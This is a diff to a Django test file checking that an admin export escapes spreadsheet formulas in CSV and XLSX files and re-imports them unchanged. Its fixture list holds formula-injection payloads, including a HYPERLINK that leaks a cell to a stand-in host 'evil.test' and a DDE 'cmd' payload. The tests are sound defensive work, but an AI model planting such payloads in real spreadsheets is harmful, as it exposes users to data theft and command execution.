@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 
 import openpyxl
 import pytest
@@ -200,13 +201,60 @@ def test_entries_import_with_their_programme_and_themes(admin_client, sustainabi
     assert entry.country.code == "ES"
 
 
-def test_export_escapes_formulas(admin_client, sustainability):
-    make_insight(theme=sustainability, slug="formula", title='=HYPERLINK("http://x")')
-    response = admin_client.post(
-        "/admin/toolkit/insight/export/", {"resource": "0", "format": "0", "export_items": []}
-    )
+FORMULAS = [
+    '==HYPERLINK("http://evil.test/?leak="&A2,"Open")',
+    '=HYPERLINK("http://x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\tTabbed",
+    "\rReturned",
+]
+
+
+def export(client, format_index: int) -> bytes:
+    """Every column of every insight, as a curator would export them."""
+    form = client.get("/admin/toolkit/insight/export/").content.decode()
+    columns = set(re.findall(r'name="(insightresource_\w+)"', form))
+    assert len(columns) > 10
+    data = {"resource": "0", "format": str(format_index), **dict.fromkeys(columns, "on")}
+    response = client.post("/admin/toolkit/insight/export/", data)
     assert response.status_code == 200
-    assert "=HYPERLINK" not in response.content.decode().replace("'=HYPERLINK", "")
+    assert response["Content-Disposition"].startswith("attachment")
+    return response.content
+
+
+@pytest.fixture
+def formulas(sustainability):
+    for n, title in enumerate(FORMULAS):
+        make_insight(theme=sustainability, slug=f"formula-{n}", title=title, summary=title)
+
+
+def test_csv_exports_neutralise_every_formula_start(admin_client, formulas):
+    rows = list(csv.DictReader(io.StringIO(export(admin_client, 0).decode("utf-8-sig"))))
+    cells = [value for row in rows for value in row.values() if value]
+    for title in FORMULAS:
+        assert "'" + title in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
+def test_xlsx_exports_write_every_cell_as_text_and_no_formula(admin_client, formulas):
+    book = openpyxl.load_workbook(io.BytesIO(export(admin_client, 1)))
+    cells = [cell for row in book.active.iter_rows() for cell in row if cell.value is not None]
+    assert {cell.data_type for cell in cells} == {"s"}  # text, never "f" (a formula)
+    values = {cell.value for cell in cells}
+    for title in FORMULAS:
+        assert "'" + title.replace("\r", "\n") in values  # XML keeps no carriage return
+
+
+def test_an_exported_file_imports_back_unchanged(admin_client, formulas):
+    for format_index in (0, 1):
+        exported = export(admin_client, format_index)
+        upload = SimpleUploadedFile(["i.csv", "i.xlsx"][format_index], exported)
+        confirm(admin_client, dry_run(admin_client, upload, format_index=format_index))
+        titles = dict(Insight.objects.values_list("slug", "title"))
+        # the apostrophes come off (a carriage return is a line break to CSV readers)
+        assert [titles[f"formula-{n}"] for n in range(6)] == FORMULAS[:6]
 
 
 def test_policy_officers_may_not_import_content(client, django_user_model):
